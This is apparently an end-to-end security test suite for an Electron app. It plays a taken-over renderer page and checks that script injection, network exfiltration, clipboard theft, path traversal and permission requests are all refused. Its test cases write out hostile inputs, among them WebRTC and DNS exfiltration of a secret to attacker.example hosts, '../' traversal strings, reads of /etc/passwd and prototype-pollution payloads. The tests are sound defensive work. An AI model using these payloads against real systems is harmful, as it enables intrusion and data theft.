import { spawn } from 'node:child_process';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { createRequire } from 'node:module';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { patience } from '../until';
import { forget, type LaunchedApp, launch } from './harness/launch';
import { isQuestion } from './walk/questions';
import { receivers } from './walk/receivers';

// A page that was taken over, inside the real product: what it would try, and that nothing comes of it.

let app: LaunchedApp;
let listener: Server;
let base = '';
const arrived: string[] = [];

beforeAll(async () => {
  listener = createServer((request, response) => {
    arrived.push(`${request.method} ${request.url}`);
    response.setHeader('Access-Control-Allow-Origin', '*').end('<p>outside');
  });
  await new Promise<void>((ready) => listener.listen(0, '127.0.0.1', ready));
  base = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  app = await launch();
  await app.window.waitForSelector('#root > *');
});

afterAll(async () => {
  listener?.close();
  if (app === undefined) return;
  await app.close();
  await forget(app);
});

beforeEach(() => {
  arrived.length = 0;
});

/** Time enough for something to go wrong: the claim below is that nothing happens, and that has no event. */
const aMoment = () => new Promise((over) => setTimeout(over, 300));

/** Fails unless the window is where it was, alone, and nothing has left. */
async function nothingHappened() {
  await aMoment();
  expect(arrived).toEqual([]);
  expect(app.window.url()).toBe('app://reset/index.html');
  expect(app.electron.windows()).toHaveLength(1);
}

const logText = () => readFileSync(join(app.home, 'Partner Reset', 'log.jsonl'), 'utf8');

describe('the page', () => {
  test('has no Node and no Electron: its bridge is all there is', async () => {
    const found = await app.window.evaluate(() => {
      const bridge: Record<string, unknown> = Reflect.get(window as object, 'bridge');
      const before = bridge['reset.send'];
      Reflect.set(bridge, 'reset.send', () => 'mine');
      return {
        globals: ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer', '__dirname'].filter(
          (name) => name in window,
        ),
        kinds: [...new Set(Object.values(bridge).map((member) => typeof member))],
        isKept: bridge['reset.send'] === before,
      };
    });
    expect(found).toEqual({ globals: [], kinds: ['function'], isKept: true });
  });

  test('runs in a sandbox, isolated, without Node', async () => {
    const kinds = await app.electron.evaluate(({ BrowserWindow, app: main }) => ({
      sandboxed: main.getAppMetrics().filter(({ type, sandboxed }) => type === 'Tab' && sandboxed !== false)
        .length,
      windows: BrowserWindow.getAllWindows().length,
      persistent: BrowserWindow.getAllWindows().filter((one) => one.webContents.session.isPersistent())
        .length,
    }));
    expect(kinds).toEqual({ sandboxed: kinds.sandboxed, windows: 1, persistent: 0 });
    if (process.platform === 'linux') expect(tabSandboxes(app.pid)).toEqual(['seccomp']);
  });

  test('runs no script that was written into it', async () => {
    const said = await app.window.evaluate(
      () =>
        new Promise<string[]>((told) => {
          const refusals: string[] = [];
          const attempt = (name: string, act: () => unknown) => {
            try {
              act();
            } catch (error) {
              refusals.push(`${name}: ${error instanceof Error ? error.name : 'other'}`);
            }
          };
          const hit = "window.hit = 'hit'";
          // From a timer: what the test's own connection runs is allowed more than the page is.
          setTimeout(() => {
            attempt('eval', () => Reflect.get(window as object, 'eval')(hit));
            attempt('Function', () => new Function(hit)());
            attempt('innerHTML', () => {
              document.createElement('div').innerHTML = '<img src=x>';
            });
            attempt('text', () => {
              document.createElement('script').text = hit;
            });
            attempt('srcdoc', () => {
              document.createElement('iframe').srcdoc = `<script>${hit}</script>`;
            });
            attempt('write', () => document.write('<p>'));
            attempt('policy', () => {
              const factory: { createPolicy(name: string, rules: object): unknown } = Reflect.get(
                window,
                'trustedTypes',
              );
              factory.createPolicy('default', { createHTML: (text: string) => text });
            });
            attempt('Worker', () => new Worker('data:text/javascript,1'));
            attempt('append', () => {
              const script = document.createElement('script');
              script.append(document.createTextNode(hit));
              document.body.append(script);
            });
            setTimeout(() => told([...refusals, String(Reflect.get(window, 'hit'))]), 200);
          }, 0);
        }),
    );
    expect(said.at(-1)).toBe('undefined');
    for (const name of [
      'eval',
      'Function',
      'innerHTML',
      'text',
      'srcdoc',
      'write',
      'policy',
      'Worker',
      'append',
    ]) {
      expect(said.some((line) => line.startsWith(`${name}: `))).toBe(true);
    }
  });

  test('reaches no network, this computer included', async () => {
    const answers = await app.window.evaluate(async (to) => {
      const loads = (element: HTMLElement & { src?: string; href?: string }, at: 'src' | 'href') =>
        new Promise<string>((over) => {
          element.onload = () => over('loaded');
          element.onerror = () => over('refused');
          Reflect.set(element, at, `${to}/element`);
          document.body.append(element);
          setTimeout(() => over('refused'), 1_000);
        });
      const asked = (address: string, init?: RequestInit) =>
        fetch(address, init).then(
          () => 'answered',
          () => 'refused',
        );
      navigator.sendBeacon(`${to}/beacon`, 'x');
      const link = Object.assign(document.createElement('link'), { rel: 'stylesheet' });
      return [
        await asked(`${to}/fetch`),
        await asked(`${to}/fetch`, { mode: 'no-cors', method: 'POST', body: 'x' }),
        await asked('app://reset/index.html'),
        await asked('file:///etc/passwd'),
        await loads(new Image(), 'src'),
        await loads(document.createElement('iframe'), 'src').then(() => 'refused'),
        await loads(link, 'href'),
        await new Promise<string>((over) => {
          try {
            const socket = new WebSocket(`${to.replace('http', 'ws')}/socket`);
            socket.onopen = () => over('answered');
            socket.onerror = () => over('refused');
          } catch {
            over('refused');
          }
        }),
        await new Promise<string>((over) => {
          try {
            const stream = new EventSource(`${to}/stream`);
            stream.onopen = () => over('answered');
            stream.onerror = () => over('refused');
          } catch {
            over('refused');
          }
        }),
      ];
    }, base);
    expect(new Set(answers)).toEqual(new Set(['refused']));
    await nothingHappened();
  });

  test.each([
    ['open', (to: string) => void window.open(`${to}/open`, '_blank', 'nodeIntegration=yes')],
    ['location', (to: string) => window.location.assign(`${to}/location`)],
    ['replace', (to: string) => window.location.replace(`${to}/replace`)],
    ['another page of ours', () => window.location.assign('app://reset/../index.html?x')],
    ['a file', () => window.location.assign('file:///etc/passwd')],
    ['data', () => window.location.assign('data:text/html,<p>x')],
    [
      'form',
      (to: string) => {
        const form = Object.assign(document.createElement('form'), { action: `${to}/form`, method: 'post' });
        document.body.append(form);
        form.submit();
      },
    ],
    [
      'download',
      (to: string) =>
        Object.assign(document.createElement('a'), { href: `${to}/file`, download: 'x' }).click(),
    ],
    [
      'new tab',
      (to: string) =>
        Object.assign(document.createElement('a'), { href: `${to}/tab`, target: '_blank' }).click(),
    ],
    [
      'refresh',
      (to: string) => {
        const meta = Object.assign(document.createElement('meta'), { content: `0;url=${to}/refresh` });
        meta.setAttribute('http-equiv', 'refresh');
        document.head.append(meta);
      },
    ],
  ])('goes nowhere and opens nothing: %s', async (_name, act) => {
    await app.window.evaluate(act, base);
    await nothingHappened();
  });

  test('reaches nobody beside its requests: by WebRTC over UDP and TCP, by names, by sockets opened ahead', async () => {
    const secret = 'SECRETpassword12';
    const outside = await receivers(secret);
    const log = join(app.home, 'net-log.json');
    await app.electron.evaluate(
      async ({ session }, path) =>
        session.fromPartition('reset').netLog.startLogging(path, { captureMode: 'everything' }),
      log,
    );
    try {
      const tried = await app.window.evaluate(
        async ({ udpPort, tcpPort, secret: word }) => {
          const done: string[] = [];
          const name = (kind: string) => `${kind}.${word}.attacker.example`;
          const call = async (Peer: typeof RTCPeerConnection, kind: string) => {
            const servers = [
              `stun:127.0.0.1:${udpPort}`,
              `stun:${name(`${kind}-stun`)}:3478`,
              `turn:127.0.0.1:${tcpPort}?transport=tcp`,
              `turn:127.0.0.1:${udpPort}`,
              `turn:${name(`${kind}-turn`)}:3478?transport=tcp`,
            ];
            const peer = new Peer({
              iceServers: servers.map((urls) => ({ urls, username: word, credential: word })),
            });
            peer.createDataChannel('x');
            await peer.setLocalDescription(await peer.createOffer());
            const sdp = (peer.localDescription?.sdp ?? '')
              .replace(/a=ice-ufrag:.*/g, `a=ice-ufrag:${word}`)
              .replace(/a=ice-pwd:.*/g, `a=ice-pwd:${word.repeat(2)}`)
              .replace(/a=setup:actpass/g, 'a=setup:active');
            await peer.setRemoteDescription({ type: 'answer', sdp });
            const line = (protocol: string, at: string, port: number) => ({
              candidate: `candidate:1 1 ${protocol} 2130706431 ${at} ${port} typ host${protocol === 'tcp' ? ' tcptype passive' : ''}`,
              sdpMLineIndex: 0,
            });
            await peer.addIceCandidate(line('udp', '127.0.0.1', udpPort)).catch(() => {});
            await peer.addIceCandidate(line('tcp', '127.0.0.1', tcpPort)).catch(() => {});
            await peer.addIceCandidate(line('udp', `${word}.local`, udpPort)).catch(() => {});
            done.push(kind);
          };
          const frame = document.createElement('iframe');
          document.body.append(frame);
          // Fresh in a frame: taking it away in the preload would not help.
          const inFrame: typeof RTCPeerConnection = Reflect.get(
            frame.contentWindow ?? {},
            'RTCPeerConnection',
          );
          await call(RTCPeerConnection, 'page');
          await call(inFrame, 'frame');
          for (const rel of [
            'dns-prefetch',
            'preconnect',
            'prefetch',
            'prerender',
            'modulepreload',
            'preload',
          ]) {
            for (const href of [`https://${name(rel)}/`, `http://127.0.0.1:${tcpPort}/${rel}`])
              document.head.append(
                Object.assign(document.createElement('link'), { rel, href, as: 'script' }),
              );
          }
          const control = document.createElement('meta');
          control.setAttribute('http-equiv', 'x-dns-prefetch-control');
          control.content = 'on';
          document.head.append(control);
          document.body.append(
            Object.assign(document.createElement('a'), { href: `https://${name('anchor')}/`, text: 'x' }),
          );
          try {
            const rules = Object.assign(document.createElement('script'), { type: 'speculationrules' });
            rules.append(JSON.stringify({ prerender: [{ urls: [`https://${name('rules')}/`] }] }));
            document.head.append(rules);
          } catch {
            done.push('rules refused');
          }
          const Transport = Reflect.get(window, 'WebTransport');
          try {
            new Transport(`https://${name('transport')}/`).ready.catch(() => {});
            new Transport(`https://127.0.0.1:${udpPort}/`).ready.catch(() => {});
          } catch {
            done.push('transport refused');
          }
          window.open(`https://${name('window')}/`);
          await new Promise((over) => setTimeout(over, 6_000));
          return done;
        },
        { ...outside, arrived: null, close: null, secret },
      );
      // It was tried in earnest: in the page and in the frame.
      expect(tried).toEqual(expect.arrayContaining(['page', 'frame']));
      await app.electron.evaluate(async ({ session }) => session.fromPartition('reset').netLog.stopLogging());
      const asked = [...readFileSync(log, 'utf8').matchAll(/[\w-]+\.SECRETpassword12\.attacker\.example/gi)];
      expect(new Set(asked.map(([host]) => host))).toEqual(new Set());
      expect(outside.arrived()).toEqual({ udp: 0, tcp: 0, secrets: 0 });
    } finally {
      outside.close();
    }
    await nothingHappened();
  });

  test('opens no dialogue of the system by itself: to print, to ask, for files', async () => {
    const answers = await app.window.evaluate(
      () =>
        new Promise((told) => {
          let prints = 0;
          addEventListener('beforeprint', () => {
            prints += 1;
          });
          // From a timer, as above. A box of the system would hold this up until somebody pressed it.
          setTimeout(() => {
            window.print();
            window.alert('x');
            told({ sure: window.confirm('x'), prints });
          }, 0);
        }),
    );
    expect(answers).toEqual({ sure: false, prints: 0 });
    const pickers = await app.window.evaluate(() =>
      ['showSaveFilePicker', 'showOpenFilePicker', 'showDirectoryPicker'].filter((name) => name in window),
    );
    expect(pickers).toEqual([]);
  });

  test('is given no permission', async () => {
    const answers = await app.window.evaluate(async () => {
      const answer = (asking: Promise<unknown> | undefined) =>
        Promise.resolve(asking).then(
          (given) => (given === undefined ? 'absent' : 'given'),
          () => 'refused',
        );
      const { usb, hid, serial, bluetooth } = navigator as Navigator & Record<string, never>;
      const device = (api: { requestDevice?: (o: object) => Promise<unknown> } | undefined) =>
        answer(
          api
            ?.requestDevice?.({ filters: [] })
            .then((found) => (Array.isArray(found) ? Promise.reject() : found)),
        );
      return {
        notifications: await Notification.requestPermission(),
        camera: await answer(navigator.mediaDevices?.getUserMedia({ video: true, audio: true })),
        screen: await answer(navigator.mediaDevices?.getDisplayMedia({ video: true })),
        place: await answer(
          new Promise((given, refused) => navigator.geolocation.getCurrentPosition(given, refused)),
        ),
        clipboard: await answer(navigator.clipboard?.readText()),
        usb: await device(usb),
        hid: await device(hid),
        serial: await answer(
          (serial as { requestPort?: () => Promise<unknown> } | undefined)?.requestPort?.(),
        ),
        bluetooth: await answer(
          (bluetooth as { requestDevice?: (o: object) => Promise<unknown> } | undefined)?.requestDevice?.({
            acceptAllDevices: true,
          }),
        ),
        midi: await answer(navigator.requestMIDIAccess?.()),
      };
    });
    const { notifications, ...rest } = answers;
    expect(notifications).toBe('denied');
    expect(Object.entries(rest).filter(([, answer]) => answer === 'given')).toEqual([]);
  });

  test('neither reads nor overwrites the clipboard by a script, without anybody’s hand', async () => {
    const held = 'from a password manager';
    await app.electron.evaluate(({ clipboard }, text) => clipboard.writeText(text), held);
    // By main and without a gesture: what the test's own connection runs counts as a person's hand for five seconds.
    const run = (code: string): Promise<unknown> =>
      app.electron.evaluate(
        ({ BrowserWindow }, text) => BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(text),
        code,
      );
    await expect.poll(() => run('navigator.userActivation.isActive'), { timeout: patience }).toBe(false);
    const pasted = await run(`(() => {
      const field = document.createElement('textarea');
      document.body.append(field);
      field.focus();
      document.execCommand('paste');
      const pasted = field.value;
      field.value = 'from the page';
      field.select();
      document.execCommand('copy');
      document.execCommand('cut');
      field.remove();
      return pasted;
    })()`);
    await aMoment();
    expect(pasted).toBe('');
    expect(await app.electron.evaluate(({ clipboard }) => clipboard.readText())).toBe(held);
  });

  test('holds no other page: no webview, no frame that could speak', async () => {
    const found = await app.window.evaluate(async () => {
      const webview = Object.assign(document.createElement('webview'), { src: 'app://reset/index.html' });
      const own = Object.assign(document.createElement('iframe'), { src: 'app://reset/index.html' });
      const empty = document.createElement('iframe');
      document.body.append(webview, own, empty);
      await new Promise((over) => setTimeout(over, 500));
      return {
        webview: 'getWebContentsId' in webview,
        own: own.contentWindow !== null && typeof Reflect.get(own.contentDocument ?? {}, 'title'),
        empty: typeof Reflect.get(empty.contentWindow ?? {}, 'bridge'),
      };
    });
    expect(found).toEqual({ webview: false, own: 'undefined', empty: 'undefined' });
    const pages = await app.electron.evaluate(({ webContents }) => webContents.getAllWebContents().length);
    expect(pages).toBe(1);
  });

  test('no address reaches a file that is not of the page', async () => {
    const answers = await app.electron.evaluate(async ({ session }) => {
      const own = session.fromPartition('reset', { cache: false });
      const asks: [string, string][] = [
        ['GET', 'app://reset/index.html'],
        ['GET', 'app://reset/../../package.json'],
        ['GET', 'app://reset/%2e%2e/%2e%2e/package.json'],
        ['GET', 'app://reset/..%2f..%2fpackage.json'],
        ['GET', 'app://reset/..%5c..%5cpackage.json'],
        ['GET', 'app://reset/..%2fmain%2findex.js'],
        ['GET', 'app://reset//etc/passwd'],
        ['GET', 'app://reset/index.html%00'],
        ['GET', 'app://elsewhere/index.html'],
        ['POST', 'app://reset/index.html'],
        ['DELETE', 'app://reset/index.html'],
      ];
      return Promise.all(asks.map(async ([method, url]) => (await own.fetch(url, { method })).status));
    });
    expect(answers[0]).toBe(200);
    expect(answers.slice(1).filter((status) => status < 400)).toEqual([]);
  });

  test('its session, the default one and any other reach nothing', async () => {
    const answers = await app.electron.evaluate(async ({ session }, to) => {
      const sessions = [
        session.defaultSession,
        session.fromPartition('reset'),
        session.fromPartition('another'),
      ];
      return Promise.all(sessions.map((one) => one.fetch(`${to}/session`).then(String, () => 'refused')));
    }, base);
    expect(answers).toEqual(['refused', 'refused', 'refused']);
    expect(arrived).toEqual([]);
  });

  test('main’s own way asks in the clear for nothing but this computer by its three names, and for no file', async () => {
    // Another address of loopback: nothing about this server is out of reach but the rule.
    const other = createServer((request, response) => {
      arrived.push(`other ${request.url}`);
      response.end('outside');
    });
    await new Promise<void>((ready) => other.listen(0, '127.0.0.2', ready));
    const { port } = other.address() as AddressInfo;
    try {
      const electron = await app.electron.evaluate(() => Number.parseInt(process.versions.electron, 10));
      // Before Electron 42 a session is not asked about files: there only the app's own `fetch` refuses them.
      const files = electron >= 42 ? ['file:///etc/passwd'] : [];
      const refused = [`http://127.0.0.2:${port}/x`, `http://[::ffff:127.0.0.2]:${port}/x`, ...files];
      const answers = await app.electron.evaluate(
        async ({ session }, addresses) => {
          const lines = ['microsoft', 'microsoft-background', 'microsoft-1', 'microsoft-4'];
          const asked = (line: string, url: string) =>
            session
              .fromPartition(line)
              .fetch(url)
              .then(
                ({ status }) => `answered ${status}`,
                (problem: Error) => problem.message,
              );
          return Promise.all(
            addresses.map(async (url) => [
              ...new Set(await Promise.all(lines.map((line) => asked(line, url)))),
            ]),
          );
        },
        [`${base}/allowed`, ...refused],
      );
      // The one that is allowed is answered: the look is not blind.
      expect(answers).toEqual([['answered 200'], ...refused.map(() => ['net::ERR_BLOCKED_BY_CLIENT'])]);
      expect(new Set(arrived)).toEqual(new Set(['GET /allowed']));
    } finally {
      other.close();
    }
  });
});

describe.runIf(process.platform === 'linux')('a question in a window of main’s own', () => {
  const askedWindow = () => app.electron.windows().find(isQuestion);
  const gone = () => expect.poll(askedWindow, { timeout: patience }).toBeUndefined();
  /** Asks whether everything may be deleted, as the page does after a press. */
  const ask = async () => {
    await app.window.keyboard.press('Enter');
    await app.window.evaluate(() => {
      const bridge: Record<string, (input: unknown) => Promise<unknown>> = Reflect.get(
        window as object,
        'bridge',
      );
      Reflect.set(window, 'answered', null);
      void bridge['app.deleteEverything']?.(undefined).then((answer) =>
        Reflect.set(window, 'answered', answer),
      );
    });
    await expect.poll(askedWindow, { timeout: patience }).toBeDefined();
    await expect.poll(() => facts().then(({ visible }) => visible), { timeout: patience }).toBe(true);
  };
  const facts = () =>
    app.electron.evaluate(async ({ BrowserWindow, session }, to) => {
      const all = BrowserWindow.getAllWindows();
      const asking = all.find((one) => one.webContents.getURL() === 'app://question/');
      const own = asking?.webContents.session;
      const asked = (url: string) =>
        own?.fetch(url).then(
          ({ ok, status }) => (ok ? status : 'refused'),
          () => 'refused',
        );
      return {
        windows: all.length,
        visible: asking?.isVisible(),
        modal: asking?.isModal(),
        parent: asking?.getParentWindow()?.webContents.getURL(),
        isApart: own !== session.fromPartition('reset') && own !== session.defaultSession,
        isKept: own?.isPersistent(),
        reaches: await Promise.all(
          [`${to}/question`, 'app://reset/index.html', 'app://question/x'].map(asked),
        ),
      };
    }, base);
  const answered = () => app.window.evaluate(() => Reflect.get(window, 'answered'));

  test('stands in front, in a session apart that reaches nothing, without a script', async () => {
    await ask();
    expect(await facts()).toEqual({
      windows: 2,
      visible: true,
      modal: true,
      parent: 'app://reset/index.html',
      isApart: true,
      isKept: false,
      reaches: ['refused', 'refused', 'refused'],
    });
    const seen = await askedWindow()?.evaluate(() => [
      document.scripts.length,
      'bridge' in window,
      document.activeElement?.textContent,
    ]);
    expect(seen).toEqual([0, false, 'Stay']);
    expect(arrived).toEqual([]);
  });

  test('is answered, covered and moved by nothing that the app’s page does', async () => {
    await app.window.evaluate(async () => {
      window.focus();
      window.moveTo(0, 0);
      window.open('app://question/?answer=1');
      location.assign('app://question/?answer=1');
      new BroadcastChannel('question').postMessage('1');
      for (const key of ['Enter', 'Escape', ' '])
        document.dispatchEvent(new KeyboardEvent('keydown', { key }));
      await fetch('app://question/?answer=1').catch(() => {});
      await document.documentElement.requestFullscreen().catch(() => {});
      const form = Object.assign(document.createElement('form'), { action: 'app://question/' });
      form.append(Object.assign(document.createElement('input'), { name: 'answer', value: '1' }));
      document.body.append(form);
      form.submit();
    });
    await aMoment();
    expect(await facts().then(({ visible, windows }) => [visible, windows])).toEqual([true, 2]);
    expect(await answered()).toBeNull();
    expect(app.window.url()).toBe('app://reset/index.html');
  });

  test('Escape, the curtain and a page that ends are no', async () => {
    const ways: Record<string, () => Promise<unknown>> = {
      Escape: () =>
        app.electron.evaluate(({ BrowserWindow }) => {
          const asking = BrowserWindow.getAllWindows().find((one) => one.getParentWindow() !== null);
          asking?.webContents.sendInputEvent({ type: 'keyDown', keyCode: 'Escape' });
        }),
      crash: () =>
        app.electron.evaluate(({ BrowserWindow }) => {
          const asking = BrowserWindow.getAllWindows().find((one) => one.getParentWindow() !== null);
          asking?.webContents.forcefullyCrashRenderer();
        }),
      curtain: () => app.electron.evaluate(({ powerMonitor }) => void powerMonitor.emit('lock-screen')),
    };
    for (const [name, end] of Object.entries(ways)) {
      if (askedWindow() === undefined) await ask();
      await end();
      await gone();
      await expect.poll(answered, { message: name, timeout: patience }).toMatchObject({ ok: false });
    }
    const isCovered = () => app.window.evaluate(() => document.querySelector('dialog.curtain') !== null);
    await expect.poll(isCovered, { timeout: patience }).toBe(true);
    await app.window.keyboard.press('a');
    await expect.poll(isCovered, { timeout: patience }).toBe(false);
  });
});

describe('the bridge', () => {
  test.each([
    ['nothing', 'undefined'],
    ['an empty object', '{}'],
    ['a text', '"x"'],
    ['null', 'null'],
    ['a list', '[[[[]]]]'],
    ['a prototype', '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'],
    ['a canary', '{"resetId":"canary","password":"canary","text":7}'],
  ])('answers %s on every call with a reference at most', async (_name, text) => {
    const answers = await app.window.evaluate(async (sent) => {
      const input: unknown = sent === 'undefined' ? undefined : JSON.parse(sent);
      const bridge: Record<string, (input: unknown) => Promise<unknown>> = Reflect.get(
        window as object,
        'bridge',
      );
      // These need no input, and do what they say.
      const left = ['on', 'app.quit', 'app.openLog', 'app.deleteEverything', 'session.signOut'];
      const calls = Object.entries(bridge).filter(([name]) => !left.includes(name));
      return Promise.all(
        calls.map(([name, call]) =>
          call(input).then(
            (answer) => [name, answer] as const,
            (error: unknown) => [name, `threw ${error}`] as const,
          ),
        ),
      );
    }, text);
    for (const [name, answer] of answers) {
      expect(answer, name).toMatchObject({ ok: expect.any(Boolean) });
      expect(JSON.stringify(answer), name).not.toContain('canary');
    }
    expect(await app.electron.evaluate(() => Reflect.get({}, 'polluted'))).toBeUndefined();
    expect(logText()).not.toContain('canary');
  });

  test('each reference leads to a line of the log', async () => {
    const answer = await app.window.evaluate(() => {
      const bridge: Record<string, (input: unknown) => Promise<{ failure: { reference: string } }>> =
        Reflect.get(window as object, 'bridge');
      return bridge['reset.send']?.({});
    });
    const line = logText()
      .split('\n')
      .find((one) => one.includes(answer?.failure.reference ?? 'none'));
    expect(JSON.parse(line ?? '{}')).toMatchObject({ event: 'serve.junk', channel: 'reset.send' });
  });

  test('things that cannot be sent are refused on the way, and the app goes on', async () => {
    const answers = await app.window.evaluate(async () => {
      const bridge: Record<string, (input: unknown) => Promise<unknown>> = Reflect.get(
        window as object,
        'bridge',
      );
      const round: Record<string, unknown> = {};
      round.self = round;
      const inputs = [
        () => 1,
        Symbol('x'),
        window,
        document.body,
        round,
        new Array(1_000_000).fill('x'),
        10n,
      ];
      const sent = inputs.map(async (input) => bridge['reset.send']?.(input));
      const settled = await Promise.allSettled(sent);
      const snapshot = (await bridge['app.snapshot']?.(undefined)) as { ok: boolean };
      return [
        settled.filter(
          ({ status, ...rest }) => status === 'fulfilled' && JSON.stringify(rest).includes('"ok":true'),
        ).length,
        snapshot.ok,
      ];
    });
    expect(answers).toEqual([0, true]);
  });

  test('a page that dies comes back, and can be used', async () => {
    const said = await app.electron.evaluate(async ({ BrowserWindow }) => {
      const contents = BrowserWindow.getAllWindows()[0]?.webContents;
      const back = new Promise<void>((loaded) => contents?.once('did-finish-load', () => loaded()));
      contents?.forcefullyCrashRenderer();
      await back;
      return contents?.executeJavaScript(
        'window.bridge["app.snapshot"](undefined).then((answer) => [answer.ok, typeof window.bridge.on])',
      );
    });
    expect(said).toEqual([true, 'function']);
  });
});

describe('the start', () => {
  test('a second start shows the first window and ends', async () => {
    const executable: string = createRequire(import.meta.url)('electron');
    const second = spawn(executable, [process.cwd()], {
      env: { ...process.env, XDG_CONFIG_HOME: app.home },
      stdio: 'ignore',
    });
    expect(await new Promise((ended) => second.once('exit', ended))).toBe(0);
    expect(await app.electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1);
  });

  test.skipIf(process.platform === 'win32')('what the app writes itself, only this account may read', () => {
    const folder = join(app.home, 'Partner Reset');
    const own = readdirSync(folder).filter((name) => /\.(json|jsonl|db)$/.test(name));
    expect(own).toContain('log.jsonl');
    const chromiums = readdirSync(folder).includes('Crashpad') ? [join('Crashpad', 'client_id')] : [];
    for (const name of [...own, ...chromiums])
      expect(statSync(join(folder, name)).mode & 0o077, name).toBe(0);
  });
});

/** How the kernel confines the page processes of this app: `seccomp` when a filter is in force. */
function tabSandboxes(main: number): string[] {
  const found: string[] = [];
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    try {
      const command = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
      if (!command.includes('--type=renderer') || !isBelow(pid, main)) continue;
      const status = readFileSync(`/proc/${pid}/status`, 'utf8');
      found.push(/^Seccomp:\s+2$/m.test(status) ? 'seccomp' : 'none');
    } catch {
      // It ended while we looked.
    }
  }
  return [...new Set(found)];
}

function isBelow(pid: string, ancestor: number): boolean {
  for (let at = Number(pid); at > 1; ) {
    if (at === ancestor) return true;
    at = Number(
      readFileSync(`/proc/${at}/stat`, 'utf8')
        .replace(/^.*\) /s, '')
        .split(' ')[1],
    );
  }
  return false;
}
